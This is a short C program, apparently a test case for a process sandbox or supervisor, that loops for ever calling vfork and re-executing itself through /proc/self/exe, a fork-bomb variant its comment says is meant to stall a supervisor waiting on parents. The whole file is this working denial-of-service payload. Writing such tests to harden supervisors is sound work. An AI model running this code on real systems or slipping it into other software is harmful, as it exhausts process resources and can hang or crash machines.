// vfork and exec of itself in every process, for ever: the parent is suspended until the exec, so
// that a supervisor that waits for parents waits for ever.
#include "attack.h"
int main(int argc, char** argv) {
  (void)argc;
  for (;;) {
    pid_t child = vfork();
    if (child == 0) {
      execv("/proc/self/exe", argv);
      _exit(1);
    }
  }
}
